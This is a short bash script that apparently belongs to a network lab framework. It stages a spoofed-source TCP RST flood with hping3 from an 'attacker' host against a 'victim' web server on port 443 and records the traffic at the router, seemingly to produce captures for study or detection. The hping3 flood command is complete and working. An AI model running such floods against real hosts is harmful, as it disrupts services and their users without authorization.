#!/bin/bash
# hping3 --rand-source: RST flood; nobody answers a RST.
. "$(dirname "$0")/../../lab.sh"; lab
outside attacker 203.0.113.66
inside victim 10.20.0.10
web victim 80 443
record router wan -s 64
on attacker timeout 12 hping3 -q -n -I eth0 -R -p 443 --rand-source -i u60 -c 24000 10.20.0.10 >/dev/null 2>&1 || true
recorded
